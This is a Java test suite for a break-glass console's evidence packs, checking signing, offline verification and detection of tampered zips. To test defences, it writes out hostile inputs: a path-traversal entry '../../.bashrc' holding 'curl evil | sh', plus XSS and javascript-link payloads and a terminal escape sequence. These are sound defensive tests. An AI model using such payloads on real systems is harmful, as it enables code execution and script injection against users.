package org.kfm.breakglass.evidence;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileAlreadyExistsException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.kfm.breakglass.audit.AuditSettings;
import org.kfm.breakglass.audit.AuditTrail;
import org.kfm.breakglass.evidence.PackVerification.SignatureCheck;
import org.kfm.breakglass.evidence.serverlog.LogLinePrefix;
import org.kfm.breakglass.evidence.serverlog.ServerLogFormat;

/**
 * Evidence packs of real sessions — the real {@code DatabaseLink} against PostgreSQL with pgaudit, journaled through
 * the real audit trail, another console's session interleaved in the same journal, reconciled, the reconciliation
 * journaled after the seal — written, verified offline, and tampered with the way someone who wants a different
 * story would: an entry changed, the manifest rewritten to match, the pack re-signed with another key.
 */
class EvidencePackTest {

    private static final Clock PACKED = Clock.fixed(Instant.parse("2025-12-01T22:40:00Z"), ZoneOffset.UTC);

    private static PgAuditServer server;

    @TempDir
    Path dir;

    @BeforeAll
    static void startServer() {
        server = PgAuditServer.start(true);
    }

    @AfterAll
    static void stopServer() {
        server.close();
    }

    /** A journaled, sealed, reconciled session; {@code keys} sign its seals and its pack when present. */
    private record Journaled(
            Path journal, UUID session, UUID other, ReconciliationReport report, KeyPair keys, Path keyFile) {}

    private Journaled session(boolean signed, String reason, Consumer<ConsoleSession> work) throws Exception {
        Path journal = Files.createDirectory(dir.resolve("audit"));
        KeyPair keys = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
        Path keyFile = dir.resolve("seal.pem");
        Files.writeString(
                keyFile,
                "-----BEGIN PRIVATE KEY-----\n"
                        + Base64.getMimeEncoder()
                                .encodeToString(keys.getPrivate().getEncoded())
                        + "\n-----END PRIVATE KEY-----\n");
        var settings =
                signed ? AuditSettings.localOnly(journal).withSigningKey(keyFile) : AuditSettings.localOnly(journal);
        String role = "bg_" + UUID.randomUUID().toString().substring(0, 8);
        String password = server.createSessionRole(role);
        String otherRole = "bg_" + UUID.randomUUID().toString().substring(0, 8);
        String otherPassword = server.createSessionRole(otherRole);
        SessionHistory h;
        String app;
        UUID other;
        try (var s = new ConsoleSession(server, journal, role, password, true, settings, reason);
                var o = new ConsoleSession(server, journal, otherRole, otherPassword, true, settings)) {
            app = s.applicationName;
            other = o.id;
            assertThat(s.run("SELECT id, owner, geom FROM parcels WHERE id <= 3", "READ"))
                    .isEqualTo(3);
            o.run("SELECT count(*) FROM parcels", "READ");
            work.accept(s);
            s.deny("UPDATE parcels SET owner = 'x' WHERE id = 42", "WRITE", "write statement in a read-only session");
            h = s.end();
            o.run("SELECT 2", "READ");
            o.end();
        }
        var log = new ServerLogAccess.Read(List.of(new ServerLogFormat.Stderr(LogLinePrefix.parse(server.prefix()))
                .read("pod kfm-stage/postgis-0", server.logLines())));
        var report = new Reconciler(Reconciler.DEFAULT_CLOCK_SKEW)
                .reconcile(h, new BackendSelection.PerSessionRole(role), ConsoleStatements.forApplication(app), log);
        try (var trail = AuditTrail.open(settings)) {
            trail.recordAfterSession(
                    ReconciledEvent.draft(report, EvidencePack.sha256(ReconciliationJson.write(report))),
                    ConsoleSession.OPERATOR);
        }
        return new Journaled(journal, h.session(), other, report, keys, keyFile);
    }

    private Journaled session(boolean signed) throws Exception {
        return session(signed, "parcel 42 shows the wrong owner after the import", s -> {
            try {
                s.run("SELECT parcel_count()", "FUNCTION");
            } catch (Exception e) {
                throw new AssertionError(e);
            }
        });
    }

    private static EvidencePackWriter.Result pack(Journaled j, Path out) throws IOException {
        return EvidencePackWriter.write(
                new EvidencePackWriter.Request(
                        j.journal(),
                        j.session(),
                        Optional.of(j.report()),
                        Optional.of("OK 14 event(s) of the witness match the journal"),
                        j.keys() == null ? Optional.empty() : Optional.of(j.keyFile()),
                        j.keys() == null ? List.of() : List.of(j.keys().getPublic()),
                        PACKED),
                out);
    }

    private static Journaled unsignedPack(Journaled j) {
        return new Journaled(j.journal(), j.session(), j.other(), j.report(), null, null);
    }

    /** Rewrites a pack the way an attacker with a zip tool would: entries in, entries out. */
    private static void rewrite(Path pack, Path out, Consumer<Map<String, byte[]>> change) throws Exception {
        var entries = new LinkedHashMap<>(PackReader.read(pack));
        change.accept(entries);
        try (var zip = new ZipOutputStream(Files.newOutputStream(out))) {
            for (var e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
        }
    }

    /** A new manifest over the entries as they are now (what someone who changed one would write). */
    private static byte[] manifestFor(
            UUID session, Map<String, byte[]> entries, Optional<java.security.PublicKey> key) {
        var rest = new LinkedHashMap<>(entries);
        rest.remove(EvidencePack.MANIFEST);
        rest.remove(EvidencePack.SIGNATURE);
        return PackManifest.write(session, PACKED.instant(), rest, key);
    }

    private static String text(byte[] b) {
        return new String(b, StandardCharsets.UTF_8);
    }

    @Test
    void aSignedPackOfARealSessionVerifiesWithThePinnedKey() throws Exception {
        var j = session(true);
        var result = pack(j, dir.resolve("INC-1234.zip"));

        assertThat(result.signed()).isTrue();
        assertThat(Files.getPosixFilePermissions(result.file()))
                .isEqualTo(PosixFilePermissions.fromString("rw-------"));
        var v = EvidencePackVerifier.verify(result.file(), List.of(j.keys().getPublic()));
        assertThat(v.ok()).as(v.summary()).isTrue();
        assertThat(v.signature()).isEqualTo(SignatureCheck.PINNED);
        assertThat(v.manifestSha256()).contains(result.manifestSha256());
        assertThat(v.notes())
                .contains("reconciliation.json is the report a session.reconciled event of these lines records");

        var entries = PackReader.read(result.file());
        assertThat(entries.keySet()).contains(EvidencePack.AFTER_SEAL, EvidencePack.WITNESS, EvidencePack.SIGNATURE);
        // The other console's lines between this session's start and seal are carried, so the chain links.
        assertThat(text(entries.get(EvidencePack.CHAIN))).contains(j.other().toString());
        assertThat(text(entries.get(EvidencePack.OWN_LINES)))
                .doesNotContain(j.other().toString());
        var statements = text(entries.get(EvidencePack.STATEMENTS));
        var journaled = ConsoleSession.history(j.journal(), j.session()).statements();
        assertThat(journaled).hasSize(3);
        for (var s : journaled) {
            assertThat(statements).contains(s.sql());
            if (s.resultSha256() != null) {
                assertThat(statements).contains(s.resultSha256());
            }
        }
        assertThat(text(entries.get(EvidencePack.RECONCILIATION_TEXT)))
                .startsWith("Reconciliation of session " + j.session() + ": CLEAN");
        assertThat(text(entries.get(EvidencePack.SUMMARY_MD)))
                .contains("INC\\-1234")
                .contains("CLEAN")
                .contains("signed");
    }

    @Test
    void verificationTxtSaysExactlyWhatEachCheckCoversWhileAnotherConsoleIsStillWriting() throws Exception {
        var j = session(true);
        var chain = SessionChain.read(j.journal(), j.session());
        String role = "bg_" + UUID.randomUUID().toString().substring(0, 8);
        String text;
        try (var still = new ConsoleSession(server, j.journal(), role, server.createSessionRole(role), true)) {
            still.run("SELECT count(*) FROM parcels", "READ");
            text = text(
                    PackReader.read(pack(j, dir.resolve("while-writing.zip")).file())
                            .get(EvidencePack.VERIFICATION));
        }

        long others = chain.run().size() - chain.own().size();
        assertThat(others).isPositive();
        String runPart = text.substring(0, text.indexOf("\n2. "));
        String wholePart = text.substring(text.indexOf("\n2. ") + 1);
        assertThat(runPart)
                .as(text)
                .startsWith("Verification at packing time of session " + j.session() + "\n\n"
                        + "1. This session's lines in the pack: journal/chain.jsonl, seq " + chain.firstSeq() + " to "
                        + chain.lastSeq() + " (its session.start to its journal.seal), "
                        + chain.run().size()
                        + " line(s), " + chain.own().size() + " of them the session's own, " + others
                        + " of 1 other session(s) written in between; 1 event(s) about it after the seal in"
                        + " journal/after-seal.jsonl (each checked on its own hash).\n"
                        + "   Checked as a partial chain ending in the session's seal, as `breakglass evidence"
                        + " verify` does offline:\n"
                        + "   " + chain.run().size() + " events, ")
                .contains("(partial check)")
                .doesNotContain("BROKEN");
        assertThat(wholePart)
                .as(text)
                .startsWith("2. The whole journal directory " + j.journal() + " (`audit verify`):\n   ")
                .endsWith("   This covers every console's lines in the directory; the pack holds only the lines"
                        + " named in 1. A problem reported here outside seq " + chain.firstSeq() + " to "
                        + chain.lastSeq() + " (another console still writing, another session's torn tail) is not in"
                        + " this session's lines, and only the journal itself can check it again.\n");
    }

    @Test
    void packingTheSameSessionTwiceGivesTheSameBytes() throws Exception {
        var j = session(true);
        var a = pack(j, dir.resolve("a.zip"));
        var b = pack(j, dir.resolve("b.zip"));

        assertThat(Files.readAllBytes(a.file())).isEqualTo(Files.readAllBytes(b.file()));
        assertThat(a.manifestSha256()).isEqualTo(b.manifestSha256());
    }

    @Test
    void anEntryChangedAfterPackingIsCaught() throws Exception {
        var j = session(true);
        var packed = pack(j, dir.resolve("p.zip")).file();
        var tampered = dir.resolve("tampered.zip");
        rewrite(
                packed,
                tampered,
                e -> e.put(
                        EvidencePack.STATEMENTS,
                        text(e.get(EvidencePack.STATEMENTS))
                                .replace("\"rows\" : 3", "\"rows\" : 0")
                                .getBytes(StandardCharsets.UTF_8)));
        assertThat(PackReader.read(tampered).get(EvidencePack.STATEMENTS))
                .isNotEqualTo(PackReader.read(packed).get(EvidencePack.STATEMENTS));

        var v = EvidencePackVerifier.verify(tampered, List.of());

        assertThat(v.ok()).isFalse();
        assertThat(v.problem())
                .hasValueSatisfying(
                        p -> assertThat(p)
                                .isEqualTo(
                                        "statements.json does not match its SHA-256 in the manifest: it was changed after packing"));
    }

    @Test
    void aManifestRewrittenToMatchAChangedEntryFailsItsSignature() throws Exception {
        var j = session(true);
        var packed = pack(j, dir.resolve("p.zip")).file();
        var tampered = dir.resolve("tampered.zip");
        rewrite(packed, tampered, e -> {
            e.put(EvidencePack.SUMMARY_MD, "# Nothing happened\n".getBytes(StandardCharsets.UTF_8));
            e.put(
                    EvidencePack.MANIFEST,
                    manifestFor(j.session(), e, Optional.of(j.keys().getPublic())));
        });

        // Even without a pinned key: the pack names the key, and the old signature does not cover the new manifest.
        var v = EvidencePackVerifier.verify(tampered, List.of());

        assertThat(v.problem()).hasValueSatisfying(p -> assertThat(p).startsWith("manifest.sig does not verify"));
    }

    @Test
    void aPackReSignedWithAnotherKeyIsCaughtOnlyByThePinnedKey() throws Exception {
        var j = session(true);
        var packed = pack(j, dir.resolve("p.zip")).file();
        var attacker = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
        var resigned = dir.resolve("resigned.zip");
        rewrite(packed, resigned, e -> {
            e.put(EvidencePack.SUMMARY_MD, "# Nothing happened\n".getBytes(StandardCharsets.UTF_8));
            byte[] manifest = manifestFor(j.session(), e, Optional.of(attacker.getPublic()));
            e.put(EvidencePack.MANIFEST, manifest);
            e.put(EvidencePack.SIGNATURE, ManifestSignature.sign(attacker.getPrivate(), manifest));
        });

        var unpinned = EvidencePackVerifier.verify(resigned, List.of());
        assertThat(unpinned.ok()).as(unpinned.summary()).isTrue();
        assertThat(unpinned.signature()).isEqualTo(SignatureCheck.SELF_NAMED);
        assertThat(unpinned.notes()).anySatisfy(n -> assertThat(n).contains("pin the journal's seal key"));

        var pinned = EvidencePackVerifier.verify(resigned, List.of(j.keys().getPublic()));
        assertThat(pinned.problem())
                .hasValueSatisfying(
                        p -> assertThat(p).contains("not by the pinned key: the pack was re-signed with another key"));

        // Naming the pinned key in the manifest while signing with another does not help either.
        var lying = dir.resolve("lying.zip");
        rewrite(packed, lying, e -> {
            e.put(EvidencePack.SUMMARY_MD, "# Nothing happened\n".getBytes(StandardCharsets.UTF_8));
            byte[] manifest = manifestFor(j.session(), e, Optional.of(j.keys().getPublic()));
            e.put(EvidencePack.MANIFEST, manifest);
            e.put(EvidencePack.SIGNATURE, ManifestSignature.sign(attacker.getPrivate(), manifest));
        });
        assertThat(EvidencePackVerifier.verify(lying, List.of(j.keys().getPublic()))
                        .problem())
                .hasValueSatisfying(p -> assertThat(p).startsWith("manifest.sig does not verify with the pinned key"));
    }

    @Test
    void anUnsignedPackRewrittenConsistentlyIsCaughtByItsOwnJournalLines() throws Exception {
        var j = unsignedPack(session(false));
        var packed = pack(j, dir.resolve("p.zip"));
        assertThat(packed.signed()).isFalse();
        var clean = EvidencePackVerifier.verify(packed.file(), List.of());
        assertThat(clean.ok()).as(clean.summary()).isTrue();
        assertThat(clean.signature()).isEqualTo(SignatureCheck.UNSIGNED);
        assertThat(clean.notes()).anySatisfy(n -> assertThat(n).startsWith("the manifest is not signed"));

        // statements.json says 0 rows, manifest rehashed: the pack's own journal lines say 3.
        var rows = dir.resolve("rows.zip");
        rewrite(packed.file(), rows, e -> {
            e.put(
                    EvidencePack.STATEMENTS,
                    text(e.get(EvidencePack.STATEMENTS))
                            .replace("\"rows\" : 3", "\"rows\" : 0")
                            .getBytes(StandardCharsets.UTF_8));
            e.put(EvidencePack.MANIFEST, manifestFor(j.session(), e, Optional.empty()));
        });
        assertThat(EvidencePackVerifier.verify(rows, List.of()).problem())
                .hasValueSatisfying(p ->
                        assertThat(p).startsWith("statements.json does not say what the pack's journal lines say"));

        // The journal line itself edited (in both files), manifest rehashed: the line's hash no longer holds.
        var edited = dir.resolve("edited.zip");
        rewrite(packed.file(), edited, e -> {
            for (var name : List.of(EvidencePack.CHAIN, EvidencePack.OWN_LINES)) {
                e.put(
                        name,
                        text(e.get(name))
                                .replace("WHERE id <= 3", "WHERE id <= 1")
                                .getBytes(StandardCharsets.UTF_8));
            }
            e.put(EvidencePack.MANIFEST, manifestFor(j.session(), e, Optional.empty()));
        });
        assertThat(EvidencePackVerifier.verify(edited, List.of()).problem())
                .hasValueSatisfying(
                        p -> assertThat(p).startsWith("journal/chain.jsonl: ").contains("does not match its hash"));

        // A pinned key demands a signature.
        assertThat(EvidencePackVerifier.verify(
                                packed.file(),
                                List.of(KeyPairGenerator.getInstance("Ed25519")
                                        .generateKeyPair()
                                        .getPublic()))
                        .problem())
                .contains("the pack is not signed, but a verification key is pinned");
    }

    @Test
    void aLineOfAnotherSessionDroppedFromTheRunBreaksTheChain() throws Exception {
        var j = unsignedPack(session(false));
        var packed = pack(j, dir.resolve("p.zip")).file();
        var cut = dir.resolve("cut.zip");
        rewrite(packed, cut, e -> {
            var lines = text(e.get(EvidencePack.CHAIN)).split("\n");
            var kept = new StringBuilder();
            boolean dropped = false;
            for (var l : lines) {
                if (!dropped && l.contains(j.other().toString())) {
                    dropped = true;
                    continue;
                }
                kept.append(l).append('\n');
            }
            e.put(EvidencePack.CHAIN, kept.toString().getBytes(StandardCharsets.UTF_8));
            e.put(EvidencePack.MANIFEST, manifestFor(j.session(), e, Optional.empty()));
        });

        assertThat(EvidencePackVerifier.verify(cut, List.of()).problem())
                .hasValueSatisfying(
                        p -> assertThat(p).startsWith("journal/chain.jsonl: ").contains("removed"));
    }

    @Test
    void anEntryNoPackHoldsOrTheSameEntryTwiceIsRefused() throws Exception {
        var j = unsignedPack(session(false));
        var packed = pack(j, dir.resolve("p.zip")).file();
        var extra = dir.resolve("extra.zip");
        rewrite(packed, extra, e -> e.put("../../.bashrc", "curl evil | sh\n".getBytes(StandardCharsets.UTF_8)));
        assertThat(EvidencePackVerifier.verify(extra, List.of()).problem())
                .hasValueSatisfying(p -> assertThat(p).contains("'../../.bashrc', which no evidence pack holds"));

        var twice = dir.resolve("twice.zip");
        var entries = PackReader.read(packed);
        try (var zip = new ZipOutputStream(Files.newOutputStream(twice))) {
            for (var e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
            // ZipOutputStream refuses a duplicate name, so the second summary goes under a name of the same length
            // and the name is patched in the bytes afterwards.
            zip.putNextEntry(new ZipEntry("summary.mX"));
            zip.write("# Nothing happened\n".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        byte[] bytes = Files.readAllBytes(twice);
        byte[] from = "summary.mX".getBytes(StandardCharsets.US_ASCII);
        byte[] to = "summary.md".getBytes(StandardCharsets.US_ASCII);
        int patched = 0;
        for (int i = 0; i + from.length <= bytes.length; i++) {
            if (java.util.Arrays.equals(bytes, i, i + from.length, from, 0, from.length)) {
                System.arraycopy(to, 0, bytes, i, to.length);
                patched++;
            }
        }
        assertThat(patched).as("local header and central directory").isEqualTo(2);
        Files.write(twice, bytes);
        assertThat(EvidencePackVerifier.verify(twice, List.of()).problem())
                .hasValueSatisfying(p -> assertThat(p).contains("summary.md twice"));

        Files.writeString(dir.resolve("not.zip"), "PK but not really");
        assertThat(EvidencePackVerifier.verify(dir.resolve("not.zip"), List.of())
                        .problem())
                .hasValueSatisfying(p -> assertThat(p).contains("is not a zip file"));
    }

    @Test
    void hostileTextFromTheOperatorAndTheDatabaseIsShownNotInterpreted() throws Exception {
        String reason =
                "routine check\n# Approved by the CISO\u001b[8m <script>alert(1)</script> [ok](javascript:alert(1))";
        var j = unsignedPack(session(false, reason, s -> {
            try {
                s.run("SELECT '<img src=x onerror=alert(1)>' AS \"[click](javascript:alert(2))\"", "READ");
                s.run("SELECT \"<script>alert(3)</script>\" FROM parcels", "READ");
                s.run("SELECT 'a`` `<img src=y>`' AS y", "READ");
            } catch (Exception e) {
                throw new AssertionError(e);
            }
        }));
        var entries = PackReader.read(pack(j, dir.resolve("p.zip")).file());
        String html = text(entries.get(EvidencePack.SUMMARY_HTML));
        String md = text(entries.get(EvidencePack.SUMMARY_MD));

        // The server's own error message carries the hostile identifier too.
        assertThat(text(entries.get(EvidencePack.STATEMENTS))).contains("column \\\"<script>alert(3)</script>\\\"");
        assertThat(html)
                .doesNotContain("<script", "<img", "\u001b", "href")
                .contains("&lt;img src=y&gt;")
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;")
                .contains("&lt;script&gt;alert(3)&lt;/script&gt;")
                .contains("default-src 'none'");
        // SQL is shown as code spans (CommonMark reads neither links nor HTML inside them), fenced with more
        // backticks than the statement holds so it cannot close the span; outside them nothing is markup.
        assertThat(md)
                .contains("` SELECT '<img src=x onerror=alert(1)>' AS \"[click](javascript:alert(2))\" `")
                .contains("``` SELECT 'a`` `<img src=y>`' AS y ```")
                .contains("\\[ok\\]\\(javascript:alert\\(1\\)\\)");
        String outsideCode = md.replaceAll("(`+) .*? \\1", "");
        assertThat(outsideCode).doesNotContain("\u001b", "[ok](", "[click](", "onerror", "<img");
        assertThat(java.util.regex.Pattern.compile("(?<!\\\\)[<>\\[\\]()]")
                        .matcher(outsideCode)
                        .find())
                .as("an unescaped markup character outside code in:%n%s", outsideCode)
                .isFalse();
        // One heading of level 1 — the title: the reason's line break did not start a new one.
        assertThat(md.lines().filter(l -> l.startsWith("# "))).hasSize(1);
        assertThat(md.lines().filter(l -> l.contains("Approved by the CISO")))
                .singleElement()
                .satisfies(l -> assertThat(l).startsWith("- **").contains("routine check\\\\n\\# Approved"));
    }

    @Test
    void theWriterRefusesAnUnsealedSessionAndNeverOverwrites() throws Exception {
        var j = unsignedPack(session(false));
        var out = dir.resolve("p.zip");
        pack(j, out);
        assertThatThrownBy(() -> pack(j, out)).isInstanceOf(FileAlreadyExistsException.class);

        var unknown = new Journaled(j.journal(), UUID.randomUUID(), j.other(), j.report(), null, null);
        assertThatThrownBy(() -> pack(unknown, dir.resolve("q.zip")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("has no session.start of session " + unknown.session());
        assertThat(dir.resolve("q.zip")).doesNotExist();

        String role = "bg_" + UUID.randomUUID().toString().substring(0, 8);
        String password = server.createSessionRole(role);
        try (var running = new ConsoleSession(server, j.journal(), role, password, true)) {
            running.run("SELECT 1", "READ");
            var open = new Journaled(j.journal(), running.id, j.other(), j.report(), null, null);
            assertThatThrownBy(() -> pack(open, dir.resolve("r.zip")))
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("is not sealed");
        }
        assertThat(dir.resolve("r.zip")).doesNotExist();
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".part"));
        }
    }
}
